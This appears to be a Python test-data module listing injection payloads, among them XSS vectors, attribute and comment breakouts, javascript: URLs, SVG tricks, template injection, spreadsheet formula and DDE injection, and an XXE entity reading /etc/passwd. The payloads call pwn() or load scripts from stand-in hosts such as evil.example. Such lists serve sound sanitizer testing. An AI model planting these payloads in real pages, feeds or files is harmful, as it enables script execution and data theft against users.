"""What a browser, a spreadsheet or a reader of feeds might take for anything but words.

Each would call ``pwn()``, fetch from a host with "pwn" in its name, or close what it stands in. All are
plain text of the kind that an article, a name or a note may hold: no controls, which cleaning takes out.
"""

from __future__ import annotations

ELEMENTS = [
    "<script>pwn()</script>",
    "<ScRiPt>pwn()</sCrIpT>",
    "<script src=//evil.example/pwn.js></script>",
    "<script/x>pwn()</script >",
    "<script type=module>pwn()</script>",
    "<script>pwn()//",
    "<<script>pwn()//<</script>",
    "<iframe srcdoc='<script>parent.pwn()</script>'>",
    "<noscript><p title='</noscript><img src=x onerror=pwn()>'>",
    "<template><script>pwn()</script></template>",
    "<plaintext id=pwn>",
    "<dialog open id=pwn>",
    "<button popovertarget=pwn autofocus>",
]

HANDLERS = [
    "<img src=x onerror=pwn()>",
    "<img/src=x/onerror=pwn()>",
    "<body onload=pwn()>",
    "<details open ontoggle=pwn()>",
    "<input autofocus onfocus=pwn()>",
    "<video src=x onerror=pwn()>",
    "<style onload=pwn()></style>",
    "<marquee onstart=pwn()>",
    "<select autofocus onfocus=pwn()>",
    "<p style=animation:x onanimationstart=pwn()>",
    "<a id=x tabindex=1 onfocus=pwn()>",
]

# Out of an attribute, a title, a field, a list, a comment.
BREAKOUTS = [
    '"><img src=x onerror=pwn()>',
    "'><svg onload=pwn()>",
    '" autofocus onfocus="pwn()',
    "' autofocus onfocus='pwn()",
    "` autofocus onfocus=pwn() `",
    '" onmouseover="pwn()" x="',
    "x onerror=pwn() y",
    '"/><script>pwn()</script>',
    "</title><script>pwn()</script>",
    "</textarea><script>pwn()</script>",
    "</option></select><script>pwn()</script>",
    "</mark></q></blockquote><img src=x onerror=pwn()>",
    "</h1></main></body></html><script>pwn()</script>",
    "--><script>pwn()</script>",
    "--!><script>pwn()</script>",
    "<!--><script>pwn()</script>-->",
    "<!-- --!><img src=x onerror=pwn()>",
    "</noscript><script>pwn()</script>",
]

SCRIPT_TEXT = [
    "';pwn();//",
    '";pwn();//',
    "\\';pwn();//",
    '\\";pwn();//',
    "`-pwn()-`",
    "${pwn()}",
    "</script><script>pwn()</script>",
    '"}</script><script>pwn()</script>',
    '"}]}</ScRiPt ><svg onload=pwn()>',
    "<!--<script>pwn()</script>",
    '"},"@type":"pwn","x":{"',
    '\\u0022,"pwn":"',
    "pwn\u2028;pwn()\u2029//",
    "*/pwn();/*",
]

ADDRESSES = [
    "javascript:pwn()",
    "JaVaScRiPt:pwn()//https://a.org/",
    "java&#10;script:pwn()",
    "&#106;avascript&colon;pwn()",
    "data:text/html,<script>pwn()</script>",
    "data:text/html;base64,cHdu#pwn",
    "vbscript:pwn()",
    'https://pwn.example/"onclick="pwn()',
    '<a href="javascript:pwn()">pwn</a>',
    "<a href=//pwn.example target=_top>",
    "<iframe src=javascript:pwn()>",
    "<object data=javascript:pwn()>",
    "<embed src=//pwn.example>",
    "<form action=javascript:pwn()><button>",
]

# What turns a page to another place, or fetches from one.
PLACES = [
    "<base href=//evil.example/ id=pwn>",
    "<meta http-equiv=refresh content=0;url=//pwn.example>",
    "<link rel=stylesheet href=//pwn.example>",
    "<link rel=preload as=script href=//pwn.example>",
    "<img src=//pwn.example/x>",
    "<style>@import'//pwn.example'</style>",
    "</style><script>pwn()</script>",
    "<p style=background:url(//pwn.example)>",
    "x:expression(pwn())",
    "};*{background:url(//pwn.example)}",
]

DRAWINGS = [
    "<svg/onload=pwn()>",
    "<svg><script>pwn()</script></svg>",
    "<svg><script href=//pwn.example />",
    "<svg><animate onbegin=pwn() attributeName=x>",
    "<svg><a xlink:href=javascript:pwn()>pwn",
    "<svg><use href=data:,pwn#x>",
    "<svg></p><style><a id='</style><img src=x onerror=pwn()>'>",
    "<svg><foreignObject><iframe srcdoc=pwn>",
    "<math><mtext><script>pwn()</script>",
    "<math href=javascript:pwn()>pwn",
]

TEMPLATES = [
    "{{ pwn }}{% debug %}",
    "{% include 'pwn' %}",
    "{{constructor.constructor('pwn()')()}}",
    "<%= pwn %> #{pwn} @{pwn}",
    "%(pwn)s {pwn} {0.__class__} $pwn",
]

# Of spreadsheets: each begins what a cell or a line might be.
CELLS = [
    '=HYPERLINK("//pwn.example";"pwn")',
    "+cmd|' /C pwn'!A0",
    "-2+3+pwn",
    "@SUM(1+9)*pwn",
    'pwn","=pwn()","',
    "＝pwn()",
]

MARKUP = [
    "]]><script>pwn()</script>",
    "<![CDATA[<script>pwn()</script>]]>",
    "]]]]><![CDATA[>pwn",
    "&pwn; &lt;script&gt;pwn()",
    "<!DOCTYPE x [<!ENTITY pwn SYSTEM 'file:///etc/passwd'>]>",
    "<?xml-stylesheet href='//pwn.example'?>",
    "</content></entry><entry><title>pwn",
    "&lt;script&gt;pwn()&lt;/script&gt;",
    "&amp;lt;script&amp;gt;pwn()",
]

# Escaped or disguised, until somebody helps.
DISGUISES = [
    "%3Cscript%3Epwn()%3C/script%3E",
    "\\u003cscript\\u003epwn()\\u003c/script\\u003e",
    "\\x3cscript\\x3epwn()",
    "＜script＞pwn()＜/script＞",
    "<scr\u200bipt>pwn()</script>",
    "+ADw-script+AD4-pwn()",
    "#:~:text=pwn,-x&text=<script>pwn()",
    "\u202e<script>pwn()</script>",
    "\u2066pwn\u2069)(nwp\u202d",
    "\u200fpwn\u061c<b>\u202bpwn",
]

PAYLOADS = [
    *ELEMENTS, *HANDLERS, *BREAKOUTS, *SCRIPT_TEXT, *ADDRESSES, *PLACES,
    *DRAWINGS, *TEMPLATES, *CELLS, *MARKUP, *DISGUISES,
]  # fmt: skip
